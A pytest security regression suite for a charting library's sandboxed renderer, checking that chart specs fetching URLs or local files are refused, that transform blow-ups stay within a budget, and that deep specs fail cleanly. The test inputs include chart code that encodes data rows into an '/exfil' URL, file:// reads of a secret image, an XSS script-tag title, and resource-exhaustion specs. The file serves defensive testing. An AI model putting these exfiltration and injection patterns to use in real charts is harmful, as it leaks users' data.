"""Issue 17, findings 1, 2 and 4, on the paths a user takes (`lida exec`, the Python API, Chart.save):

1. rendering never fetches a URL or reads a local file: specs that would are refused, and the renderer
   runs locked down so a miss cannot leak (a local HTTP server's log and a secret image's pixels);
2. a chart's transforms are sized before anything evaluates them, and the evaluation runs in the
   renderer under the chart's time and memory budget, never on the host (the host's peak memory);
3. a deep spec is a handled failure, never an exception out of Sandbox.run."""

from __future__ import annotations

import base64
import http.server
import io
import json
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from PIL import Image  # pillow comes with streamlit

from lida.api import Lida
from lida.chart import Chart
from lida.cli import main
from lida.errors import LidaError
from lida.model import CandidateChart, Goal
from lida.sandbox import ExecResult, Sandbox, pool, specguard, tables
from lida.sandbox.renderer import RendererGone, RendererProcess
from lida.sandbox.worker import RendererSlot

pytestmark = pytest.mark.slow  # starts sandbox workers (run the quick tests with -m 'not slow')

ROOT = Path(__file__).resolve().parents[2]
SECRET_RGB = (13, 201, 77)


class _Server:
    """A local HTTP server that records every request path (nothing should ever arrive)."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(404)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                return None

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def server() -> Iterator[_Server]:
    s = _Server()
    yield s
    s.close()


@pytest.fixture(scope="module")
def secret(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("secret") / "secret.png"
    Image.new("RGB", (40, 40), SECRET_RGB).save(path)
    return path


@pytest.fixture(scope="module")
def box() -> Iterator[Sandbox]:
    with Sandbox(workers=1, timeout=20.0) as sandbox:
        yield sandbox


def secret_pixels(png: bytes) -> int:
    """How many pixels have the secret image's colour."""
    data, target = Image.open(io.BytesIO(png)).convert("RGB").tobytes(), bytes(SECRET_RGB)
    return sum(1 for i in range(0, len(data), 3) if data[i : i + 3] == target)


def data_uri_png() -> str:
    buf = io.BytesIO()
    Image.new("RGB", (40, 40), SECRET_RGB).save(buf, format="PNG")
    return "data:image/png;base64," + base64.b64encode(buf.getvalue()).decode("ascii")


def image_spec(urls: list[str]) -> dict:
    rows = [{"x": i, "u": u} for i, u in enumerate(urls)]
    return {"width": 120, "height": 60, "data": {"values": rows}, "mark": {"type": "image", "width": 40, "height": 40},
            "encoding": {"x": {"field": "x", "type": "ordinal"}, "url": {"field": "u", "type": "nominal"}}}  # fmt: skip


# ---- finding 1: the renderer's own lock-down, with the spec check out of the way ---------------------

LOCKED_RENDER = """
import json, sys
if sys.argv[1] == "locked":
    from lida.sandbox.renderer import lock_down
    lock_down()
import vl_convert as vlc
sys.stdout.buffer.write(bytes(vlc.vegalite_to_png(json.loads(sys.argv[2]), scale=1)))
"""


def test_locked_down_renderer_neither_fetches_nor_reads_files(server: _Server, secret: Path) -> None:
    spec = image_spec([f"{server.url}/exfil?row=secret", f"file://{secret}"])
    drawn = {}
    for mode in ("open", "locked"):
        server.hits.clear()
        out = subprocess.run([sys.executable, "-c", LOCKED_RENDER, mode, json.dumps(spec)], capture_output=True,
                             env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"}, timeout=120, check=False)  # fmt: skip
        assert out.stdout[:4] == b"\x89PNG", out.stderr[-500:]
        drawn[mode] = (list(server.hits), secret_pixels(out.stdout))
    # the threat is real without the lock-down (vl-convert fetches and reads), and gone with it
    assert drawn["open"][0] == ["/exfil?row=secret"] and drawn["open"][1] > 0
    assert drawn["locked"] == ([], 0)


# ---- finding 1: what a user runs ---------------------------------------------------------------------

CODE_VARIANTS = {
    "url-field-http": 'frame = data.assign(u="{server}/exfil?row=" + data.astype(str).agg(",".join, axis=1))\n'
                      '    return alt.Chart(frame).mark_image(width=20, height=20).encode(x="x:Q", url="u:N")',
    "url-field-file": 'frame = data.assign(u="file://{secret}")\n'
                      '    return alt.Chart(frame).mark_image(width=40, height=40).encode(x="x:Q", url="u:N")',
    "url-value": 'return alt.Chart(data).mark_image(url="{server}/exfil", width=20, height=20).encode(x="x:Q")',
    "url-channel-value": 'return alt.Chart(data).mark_image(width=20, height=20).encode(x="x:Q", url=alt.value("file://{secret}"))',
    "href-field": 'frame = data.assign(h="{server}/exfil?row=" + data["name"])\n'
                  '    return alt.Chart(frame).mark_point().encode(x="x:Q", href="h:N")',
    "data-and-http": 'frame = data.assign(u=["{png}"] * (len(data) - 1) + ["{server}/exfil"])\n'
                     '    return alt.Chart(frame).mark_image(width=20, height=20).encode(x="x:Q", url="u:N")',
}  # fmt: skip


def _chart_code(body: str, server: _Server, secret: Path) -> str:
    body = body.format(server=server.url, secret=secret, png=data_uri_png())
    return f"import altair as alt\n\ndef plot(data):\n    {body}\n"


@pytest.fixture(scope="module")
def small_csv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("data") / "people.csv"
    pd.DataFrame({"x": [1, 2, 3], "name": ["ann", "bob", "cy"], "salary": [91000, 87000, 99000]}).to_csv(path, index=False)
    return path


@pytest.mark.parametrize("variant", sorted(CODE_VARIANTS))
def test_lida_exec_refuses_url_loads_and_nothing_leaves(variant: str, server: _Server, secret: Path, small_csv: Path,
                                                        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    code = tmp_path / "chart.py"
    code.write_text(_chart_code(CODE_VARIANTS[variant], server, secret), encoding="utf-8")
    out = tmp_path / "out.png"
    assert main(["exec", str(code), "--data", str(small_csv), "--png", str(out), "--json"]) == 1
    report = json.loads(capsys.readouterr().out)
    assert report["ok"] is False and report["error"]["type"] == "Blocked" and report["error"]["blocked"]
    assert "data: URI" in report["error"]["message"]
    assert not out.exists()
    assert server.hits == []


def test_lida_exec_draws_data_uri_images(small_csv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code = tmp_path / "chart.py"
    body = 'frame = data.assign(u="{png}")\n    return alt.Chart(frame).mark_image(width=40, height=40).encode(x="x:O", url="u:N")'
    code.write_text(f"import altair as alt\n\ndef plot(data):\n    {body.format(png=data_uri_png())}\n", encoding="utf-8")
    out = tmp_path / "out.png"
    assert main(["exec", str(code), "--data", str(small_csv), "--png", str(out), "--json"]) == 0, capsys.readouterr()
    assert secret_pixels(out.read_bytes()) > 500  # the pixel check can see an image when one is drawn


def _chart(spec: dict, renderer: Sandbox | None = None) -> Chart:
    goal = Goal(question="q", visualization="v", rationale="r", fields=["x"])
    return Chart(goal=goal, code="", spec=spec, renderer=renderer)


@pytest.mark.parametrize("through", ["sandbox", "one-off"])
def test_chart_save_renders_locked_down_and_refuses_urls(through: str, box: Sandbox, server: _Server, secret: Path,
                                                         tmp_path: Path) -> None:  # fmt: skip
    renderer = box if through == "sandbox" else None
    for urls in ([f"{server.url}/exfil?row=1"], [f"file://{secret}"]):
        chart = _chart(image_spec(urls), renderer)
        for suffix in (".png", ".svg", ".html"):
            with pytest.raises(LidaError, match="data: URI"):
                chart.save(tmp_path / f"c{suffix}")
    good = _chart(image_spec([data_uri_png()]), renderer)
    assert secret_pixels(good.save(tmp_path / "good.png").read_bytes()) > 500
    assert "<svg" in good.save(tmp_path / "good.svg").read_text()
    page = _chart({**image_spec([data_uri_png()]), "title": "</script><script>alert(1)</script>"}, renderer).html()
    assert "</script><script>alert(1)" not in page and "vegaEmbed" in page
    assert server.hits == []


def test_api_execute_refuses_an_image_url_from_a_field(box: Sandbox, server: _Server, small_csv: Path) -> None:
    frame = pd.read_csv(small_csv)
    code = _chart_code(CODE_VARIANTS["url-field-http"], server, Path("/nonexistent"))
    goal = Goal(question="q", visualization="v", rationale="r", fields=["x"])
    with Lida(sandbox=box) as lida:
        charts, failures = lida.execute([CandidateChart(goal=goal, code=code)], frame, lida.summarize(frame))
    assert charts == [] and len(failures) == 1
    assert "data: URI" in failures[0].reason
    assert server.hits == []


# ---- finding 2: transforms are sized first, and evaluated only in the limited renderer ----------------

# The peak is this process's own high-water mark (VmHWM, reset by exec), not ru_maxrss: Linux carries
# ru_maxrss over from the forking parent, here pytest, whose size grows with the suite.
HOST_RUN = """
import json, sys, time
from lida.cli import main
began = time.perf_counter()
rc = main(["exec", sys.argv[1], "--data", sys.argv[2], "--json"])
with open("/proc/self/status", encoding="ascii") as status:
    peak = next(int(line.split()[1]) * 1024 for line in status if line.startswith("VmHWM:"))
print(json.dumps({"rc": rc, "peak": peak, "seconds": time.perf_counter() - began}))
"""

BLOWUPS = {
    "fold": 'return alt.Chart(data).transform_fold(["a"] * 3000).mark_point().encode(x="value:Q", y="b:Q")',
    "pivot": 'return alt.Chart(data).transform_pivot("k", value="a").mark_point().encode(x="a:Q")',
}


@pytest.mark.parametrize("kind", sorted(BLOWUPS))
def test_transform_blowups_fail_fast_without_host_memory(kind: str, tmp_path: Path) -> None:
    n = 20_000
    data = tmp_path / "big.csv"
    pd.DataFrame({"a": np.arange(n), "b": np.arange(n) % 7, "k": [f"key{i}" for i in range(n)]}).to_csv(data, index=False)
    code = tmp_path / "chart.py"
    code.write_text(f"import altair as alt\n\ndef plot(data):\n    {BLOWUPS[kind]}\n", encoding="utf-8")
    out = subprocess.run([sys.executable, "-c", HOST_RUN, str(code), str(data)], capture_output=True, text=True,
                         env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"}, timeout=300, check=False)  # fmt: skip
    lines = out.stdout.strip().splitlines()
    report, host = json.loads(lines[0]), json.loads(lines[-1])
    assert host["rc"] == 1 and report["ok"] is False
    assert report["error"]["type"] == "OverBudget" and kind in report["error"]["message"]
    # the finding: 2.8 GB and 60 s (fold), over 120 s of CPU (pivot) in the host
    assert host["peak"] < 1_000 * (1 << 20), host
    assert host["seconds"] < 60, host


def _big_request(rows: int) -> tuple[dict, bytes]:
    rng = np.random.default_rng(0)
    import pyarrow as pa

    table = pa.table({"c": rng.integers(0, rows // 2, rows).astype(str), "y": rng.normal(size=rows)})
    meta, blob = tables.encode({f"{tables.TABLE_PREFIX}0": table})
    spec = {"data": {"name": f"{tables.TABLE_PREFIX}0"}, "mark": "bar",
            "encoding": {"x": {"field": "c", "type": "nominal"}, "y": {"field": "y", "type": "quantitative", "aggregate": "mean"}}}  # fmt: skip
    return {"op": "reduce", "spec": spec, "tables": meta, "render": []}, blob


def test_pre_aggregation_runs_under_the_memory_and_time_budget() -> None:
    header, blob = _big_request(2_000_000)
    with tempfile.TemporaryDirectory() as home:
        small = RendererProcess(home, memory_mb=64)
        try:  # the limit bites as a failed allocation (a handled reply) or kills the renderer
            reply, _ = small.request({**header, "memory_mb": 64}, blob, 60.0, 64 << 20)
        except RendererGone as exc:
            assert "memory limit" in str(exc)
        else:
            assert reply["ok"] is False and reply["error"]["type"] == "MemoryLimit", reply
        finally:
            small.kill()
        slot = RendererSlot(home, 2048)
        try:
            began = time.monotonic()
            reply, _ = slot.request(header, blob, 0.2, 64 << 20)  # far less than the reduction needs
            assert reply["ok"] is False and reply["error"]["type"] == "Timeout", reply
            assert time.monotonic() - began < 10
            reply, _ = slot.request(header, blob, 120.0, 64 << 20)  # a fresh renderer took over
            assert reply["ok"] is True and any("pre-aggregated" in note for note in reply["notes"])
        finally:
            slot.close()


def test_estimates_refuse_blowups_and_pass_ordinary_charts() -> None:
    rows = [{"a": i, "k": f"k{i}", "g": i % 4} for i in range(5_000)]
    base = {"data": {"values": rows}, "mark": "point"}
    assert specguard.problem({**base, "transform": [{"fold": ["a", "g"]}]}, 2048) is None
    assert specguard.problem({**base, "transform": [{"pivot": "g", "value": "a", "groupby": ["k"]}]}, 2048) is None
    for step in ({"fold": ["a"] * 3000}, {"pivot": "k", "value": "a"}, {"density": "a", "steps": 10**7},
                 {"impute": "a", "key": "k", "keyvals": {"start": 0, "stop": 10**9}},
                 {"quantile": "a", "step": 1e-9}):  # fmt: skip
        found = specguard.problem({**base, "transform": [step]}, 2048)
        assert found is not None and found.kind == "OverBudget", step
    nested = {"data": {"values": [{"a": list(range(200_000)), "b": list(range(200_000))}] * 5}, "mark": "point"}
    assert specguard.problem({**nested, "transform": [{"flatten": ["a"]}]}, 2048) is None
    found = specguard.problem({**nested, "transform": [{"flatten": ["a"]}]}, 64)
    assert found is not None and "flatten" in found.reason and "1,000,000 rows" in found.reason
    wide = {**base, "transform": [{"fold": ["a", "g", "k"] * 300}]}
    assert specguard.problem(wide, 2048) is None
    assert specguard.problem(wide, 64) is not None  # the budget follows the chart's memory limit


# ---- finding 4: deep specs --------------------------------------------------------------------------

DEEP = """import altair as alt


class Deep(alt.Chart):
    def to_dict(self, *args, **kwargs):
        spec = super().to_dict(*args, **kwargs)
        meta = {}
        for _ in range(900):
            meta = {"m": meta}
        spec["usermeta"] = meta
        return spec


def plot(data):
    return Deep(data).mark_point().encode(x="a:Q", y="b:Q")
"""


def test_deep_spec_is_a_handled_failure_through_exec_and_api(box: Sandbox, tmp_path: Path,
                                                            capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    frame = pd.DataFrame({"a": np.arange(6_000), "b": np.arange(6_000) % 11})
    data = tmp_path / "rows.csv"
    frame.to_csv(data, index=False)
    code = tmp_path / "deep.py"
    code.write_text(DEEP, encoding="utf-8")
    assert main(["exec", str(code), "--data", str(data), "--json"]) == 1
    report = json.loads(capsys.readouterr().out)
    assert report["error"]["type"] == "SpecTooLarge" and "deeper than" in report["error"]["message"]
    goal = Goal(question="q", visualization="v", rationale="r", fields=["a"])
    with Lida(sandbox=box) as lida:
        charts, failures = lida.execute([CandidateChart(goal=goal, code=DEEP)], frame, lida.summarize(frame))
    assert charts == [] and "deeper than" in failures[0].reason


def test_host_checks_what_a_worker_returns() -> None:
    deep: dict = {"mark": "point"}
    node = deep
    for _ in range(5_000):  # what a compromised worker could send: deeper than any host recursion
        node["m"] = {}
        node = node["m"]
    result = pool._result({"ok": True, "spec": deep, "stdout": ""}, b"", None, 0.0, 100)
    assert not result.ok and result.error is not None and result.error.type == "SpecTooLarge"

    def broken() -> ExecResult:
        raise RecursionError("maximum recursion depth exceeded")

    handled = pool._guarded(broken, time.perf_counter())
    assert not handled.ok and handled.error is not None and handled.error.type == "HostError"


def test_renderers_report_their_kernel_layers(box: Sandbox) -> None:
    assert box.marks({"data": {"values": [{"a": 1}]}, "mark": "point"})["ok"]
    layers = box.renderer_layers()
    assert layers and all(set(d) == {"landlock_abi", "seccomp"} for d in layers)
    assert all(isinstance(d["landlock_abi"], int) and isinstance(d["seccomp"], bool) for d in layers)


def test_render_refuses_deep_specs_without_raising(box: Sandbox) -> None:
    deep: dict = {}
    for _ in range(2_000):
        deep = {"m": deep}
    result = box.render({"mark": "point", "usermeta": deep}, "png")
    assert not result.ok and result.error is not None and result.error.type == "SpecTooLarge"
